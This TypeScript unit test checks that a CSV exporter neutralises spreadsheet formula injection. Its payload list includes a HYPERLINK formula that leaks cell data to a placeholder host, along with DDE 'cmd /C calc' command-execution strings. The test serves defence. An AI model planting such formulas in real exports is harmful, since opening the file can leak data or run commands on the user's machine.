import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { startsFormula, toExcelCsv } from '../../../src/core/format/excelCsv';
import { parseSemicolonCsv } from '../../helpers/semicolonCsv';

/** One cell as written (between the BOM and the CRLF). */
const cell = (value: string): string => toExcelCsv([[value]]).slice(1, -2);

describe('toExcelCsv', () => {
  it('writes a BOM, ;-separated fields, CRLF; quotes ; " and line breaks', () => {
    assert.equal(
      toExcelCsv([
        ['a', 'b;c'],
        ['d "e"', 'f\ng'],
      ]),
      '\uFEFFa;"b;c"\r\n"d ""e""";"f\ng"\r\n',
    );
  });

  // OWASP's "CSV Injection" payloads and their kin: each comes out quoted, behind a single quote.
  const payloads = [
    '=HYPERLINK("https://example.invalid/?leak="&A1;"Klikk her")',
    "=cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\tplain text after a tab',
    ' =1+1',
    '  @SUM(1)',
    '\n=1',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '-',
    '--1',
    '-1+1',
    '+12',
    '-1e5',
    '-0403',
  ];
  for (const payload of payloads)
    it(`neutralises ${JSON.stringify(payload)}`, () => {
      assert.equal(startsFormula(payload), true);
      const written = cell(payload);
      assert.equal(written, `"'${payload.replace(/"/g, '""')}"`);
      assert.deepEqual(parseSemicolonCsv(toExcelCsv([[payload, 'next']])), [[`'${payload}`, 'next']]);
    });

  it('keeps the separator out of a neutralised cell: the rest of the row stays in its columns', () => {
    const rows = parseSemicolonCsv(toExcelCsv([['=1;=2', '@x', 'ok']]));
    assert.deepEqual(rows, [["'=1;=2", "'@x", 'ok']]);
  });

  // A plain number is what the feedback viewer shows as a number (isNorwegianNumber).
  for (const number of ['-12', '-1,5', '-0,25', '-1.5', '-1 234,5', '-1\u00a0234', '-12 %', '-12,5%', ' -12 ', '\t-12'])
    it(`leaves the plain number ${JSON.stringify(number)} as it is`, () => {
      assert.equal(startsFormula(number), false);
      assert.equal(cell(number), number);
    });

  it('leaves ordinary text alone, also with = + - @ later in the cell', () => {
    for (const value of ['', 'IPLOS_0403_2025.xml', 'a=b', '1+1', 'Bruker 12-3', 'x@y.no', "'quoted", ' text'])
      assert.equal(cell(value), value);
  });
});
